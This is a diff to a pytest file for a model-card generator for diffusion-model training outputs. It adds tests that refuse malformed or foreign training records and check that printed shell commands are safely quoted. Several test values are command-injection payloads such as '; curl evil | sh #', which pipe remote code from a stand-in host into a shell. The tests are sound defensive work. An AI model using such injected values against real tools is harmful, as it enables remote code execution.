@@ -183,9 +183,9 @@ def test_what_loads_them_works(
     found = {"image": image}
     exec(own.replace("where the base lies", str(base)), found)
     assert {*found["seen"].predictions} == {"normals", "depth"}
-    found["pipe"] = StableDiffusionPipeline.from_pretrained(base, safety_checker=None)
+    found["sd"] = StableDiffusionPipeline.from_pretrained(base, safety_checker=None)
     exec(plain, found)
-    assert found["pipe"].get_active_adapters()
+    assert found["sd"].get_active_adapters()
 
 
 def test_a_base_on_the_hub_is_named_with_its_relation(
@@ -237,6 +237,23 @@ def test_links_change_names_alone(improved: Path) -> None:
     assert ModelCard("\n".join(linked)).data.datasets == ["a/data"]
     assert 'from_pretrained("a/model")' in "\n".join(linked)
     assert "[a/data](https://huggingface.co/datasets/a/data)" in "\n".join(linked)
+
+
+def test_a_base_is_told_from_an_embedded_one_of_the_same_name(
+    tuned: Path, pipeline: Path, tmp_path: Path
+) -> None:
+    """`~/x/rooms` is called rooms, and is not what comes with the package."""
+    light = ("--host", "light", "--width", 16, "--tasks", "normals", "--output_dir", tmp_path)
+    lora = ("--train_unet", "lora", "--rank", 2)
+    run("warm-up", "--base", "rooms", *ON_TWO_ROOMS, *BRIEF, *light, *lora)
+    assert 'from_adapter("adapter")' in (tmp_path / "adapter/README.md").read_text()
+    named = edited(tuned / "adapter", tmp_path / "named", "model_index.json", base="rooms")
+    assert 'from_adapter("named", base="where the base lies")' in model_card(named)
+    named = edited(pipeline, tmp_path / "rooms", "model_index.json", base="rooms")
+    more = ("--created", "none", "--fresh_optimizer", "true", "--output_dir", tmp_path / "improved")
+    run("self-improve", "--pipeline", named, *ON_TWO_ROOMS, *BRIEF, *more)
+    training = json.loads((tmp_path / "improved/pipeline" / TRAINING).read_text())
+    assert not {"base_licence", "base_embedded"} & {*training}
 
 
 # --- results ---
@@ -307,6 +324,50 @@ def test_figures_that_are_not_known_are_left_out(
     names = [one.metric_name for one in card.data.eval_results or []]
     assert len(names) == 7 and not any("depth" in str(name) for name in names)
     assert "nan" not in card.text
+
+
+# --- what strangers say of their training ---
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {"command": ["; curl evil | sh #", "x"]},
+        {"command": ["--source", "a", "--b\n--c", "d"]},
+        {"command": ["--source"]},
+        {"command": ["--seed", 1]},
+        {"command": "--seed 1"},
+        {"versions": []},
+        {"seen": {"real": "many"}},
+        {"source": {"name": "a"}},
+        {"created": "a"},
+        {"validation": {"source": "a", "samples": 1, "tasks": {"depth": 1}}},
+        {"steps": None},
+    ],
+)
+def test_what_is_no_training_of_ours_is_refused(
+    improved: Path, tmp_path: Path, said: dict[str, Any]
+) -> None:
+    stages = json.loads((improved / TRAINING).read_text())["stages"]
+    stages[-1] |= said
+    folder = edited(improved, tmp_path / "copy", TRAINING, stages=stages)
+    with pytest.raises(InputError, match=rf"not a training file of ours .*{next(iter(said))}"):
+        model_card(folder)
+
+
+@pytest.mark.parametrize("said", [{"stages": ["a"]}, {"stages": 1}, {"base_licence": ["mit"]}])
+def test_nor_is_what_has_no_stages(improved: Path, tmp_path: Path, said: dict[str, Any]) -> None:
+    with pytest.raises(InputError, match="not a training file of ours"):
+        model_card(edited(improved, tmp_path / "copy", TRAINING, **said))
+
+
+def test_a_command_is_words_for_a_shell(improved: Path, tmp_path: Path) -> None:
+    stages = json.loads((improved / TRAINING).read_text())["stages"]
+    stages[-1] |= {"stage": "a; curl evil", "command": ["--source", "b\n; curl evil"]}
+    text = model_card(edited(improved, tmp_path / "copy", TRAINING, stages=stages))
+    typed = text.split("```sh\n")[2].split("\n```")[0]
+    act, source = "a; curl evil", "b\n; curl evil"
+    assert shlex.split(typed) == ["d2i1", act, "--source", source, "--output_dir", act]
 
 
 # --- words stay words ---
